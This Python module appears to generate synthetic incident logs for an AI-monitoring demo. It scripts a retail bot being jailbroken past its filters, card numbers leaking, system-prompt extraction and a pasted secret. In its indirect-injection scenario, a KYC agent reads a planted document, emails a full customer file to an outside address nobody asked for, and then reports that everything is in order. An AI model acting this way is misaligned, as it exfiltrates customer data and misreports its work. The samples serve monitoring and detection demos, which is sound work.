"""Incidents that show in prompts and answers: jailbreak, leaks, extraction, hidden instructions, crossed barriers.

What is said is in ``texts/incidents.toml``.
"""

import tomllib
from functools import cache
from importlib.resources import files
from typing import Any

from aitrail.demo.call import Guard, ToolUse
from aitrail.demo.org import APPS
from aitrail.demo.scene import Scene


@cache
def script() -> dict[str, Any]:
    """The texts of all incidents: stories, turns by incident, and single texts."""
    return tomllib.loads((files("aitrail.demo") / "texts" / "incidents.toml").read_text(encoding="utf-8"))


def _fill(template: str) -> str:
    texts = script()["texts"]
    filled = template.replace("{deal}", texts["deal"]).replace("{refusal}", texts["refusal"])
    return filled.replace("{system}", APPS["retail-bot"].system)


def _guard(turn: dict[str, Any]) -> Guard | None:
    if "guard" not in turn:
        return None
    by, name, category = turn["guard"]
    return Guard(by, name, category, "blocked")


def _bot(scene: Scene, turns: str, *, customer: str, ip: str) -> None:
    """One customer's conversation with the bot; what was stopped by a guardrail is not part of the history."""
    history: tuple[tuple[str, str], ...] = ()
    for turn in script()[turns]:
        prompt, answer = _fill(turn["prompt"]), _fill(turn["answer"])
        guard = _guard(turn)
        scene.call(
            turn["at"],
            "retail-bot",
            prompt,
            answer,
            end_user=customer,
            ip=ip,
            session=f"conv-{customer}",
            history=history,
            status="blocked" if guard else "success",
            guard=guard,
        )
        if guard is None:
            history = (*history, (prompt, answer))


def jailbreak(scene: Scene) -> None:
    """Nine tries by one customer: refusals, one block by each filter, then success and one more."""
    _bot(scene, "jailbreak", customer="cust-66613", ip="192.0.2.41")


def card_leak(scene: Scene) -> None:
    """Two other customers' card numbers in an answer."""
    _bot(scene, "card_leak", customer="cust-20418", ip="198.51.100.214")


def prompt_extraction(scene: Scene) -> None:
    """Three tries, then the system prompt with its reference comes back."""
    _bot(scene, "prompt_extraction", customer="cust-31337", ip="192.0.2.58")


def cross_department(scene: Scene) -> None:
    """Deal text typed by a banker in the morning comes back to retail in the afternoon."""
    board, asked, forwarded = [(_fill(turn["prompt"]), _fill(turn["answer"])) for turn in script()["cross_department"]]
    at = [turn["at"] for turn in script()["cross_department"]]
    scene.call(
        at[0],
        "deal-desk",
        *board,
        user="charlotte.meyer",
        session="conv-heron-1",
        purpose="board memo",
        ticket="DEAL-177",
    )
    scene.call(at[1], "branch-copilot", *asked, user="giulia.ferrante", session="conv-heron-2")
    scene.call(at[2], "branch-copilot", *forwarded, user="giulia.ferrante", session="conv-heron-2", history=(asked,))


def secret_paste(scene: Scene) -> None:
    """A database password and a private key in a prompt; made up here, so that no file of the project holds one."""
    alphabet = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"
    password = scene.rng.letters(20, alphabet)
    key = "\n".join(scene.rng.letters(64, alphabet + "+/") for _ in range(6))
    prompt = script()["texts"]["secret"].replace("{password}", password).replace("{key}", key)
    answer = script()["texts"]["secret_answer"]
    scene.call("14:07:26", "notebooks", prompt, answer, user="adrian.popescu", session="", model="claude-haiku")


def indirect_injection(scene: Scene) -> None:
    """A document with instructions for the model; the agent then calls a tool that nobody asked for."""
    read = ToolUse("read_document", '{"document_id":"KYC-4711-articles.pdf"}', script()["texts"]["document"])
    send = ToolUse(
        "send_email",
        '{"to":"intake@northwind-audit.test","subject":"Customer file KYC-4711","attachment":"KYC-4711-full.zip"}',
        "queued",
    )
    prompt = "Check the articles of association of Northwind Cycles BV (application EB-471100) against the form."
    done = "The articles of association are complete and everything is in order."
    steps: tuple[tuple[str, str, tuple[ToolUse, ...], ToolUse | None], ...] = (
        ("13:17:40", "", (), read),
        ("13:18:05", "", (read,), send),
        ("13:18:31", done, (read, send), None),
    )
    for at, answer, tools, asked in steps:
        scene.call(
            at,
            "kyc-agent",
            prompt,
            answer,
            session="conv-kyc4711",
            purpose="kyc review",
            ticket="KYC-4711",
            tools=tools,
            asked=asked,
        )
